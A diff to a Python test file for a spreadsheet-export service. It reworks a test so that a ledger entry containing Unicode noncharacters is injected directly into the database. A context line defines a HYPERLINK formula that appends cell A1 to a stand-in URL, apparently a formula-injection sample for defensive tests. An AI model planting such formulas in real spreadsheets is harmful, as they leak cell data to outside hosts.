@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import update
 
 import agent_desk.services.xlsx_stream as xlsx_stream
 from agent_desk.core.errors import DomainError
@@ -16,6 +17,7 @@ from agent_desk.core.identity import make_resident_id
 from agent_desk.services.ledger import export_ledger
 from agent_desk.services.roster import export_clients
 from agent_desk.services.xlsx_stream import BAD_CHAR_MARK, SheetWriter
+from agent_desk.store.models import Case
 from agent_desk.store.review_queries import LedgerQuery
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
@@ -78,7 +80,10 @@ def test_a_noncharacter_in_a_ledger_cell_is_marked_and_the_file_opens(
 ) -> None:
     village = make_village(session, "洛门村")
     client = make_client(session, name="王建国", village_id=village.id)
-    make_case(session, client, item_name="低保\ufffe申请\uffff", entrusted_on=TODAY)
+    case = make_case(session, client, item_name="低保申请", entrusted_on=TODAY)
+    session.commit()
+    # such a value can no longer be typed or synced in (protocol.values); an older desk or hub may hold one
+    session.execute(update(Case).where(Case.id == case.id).values(item_name="低保\ufffe申请\uffff"))
     session.commit()
     target = tmp_path / "台账.xlsx"
     assert export_ledger(LedgerQuery(TODAY, TODAY), target, session=session, today=TODAY) == 1
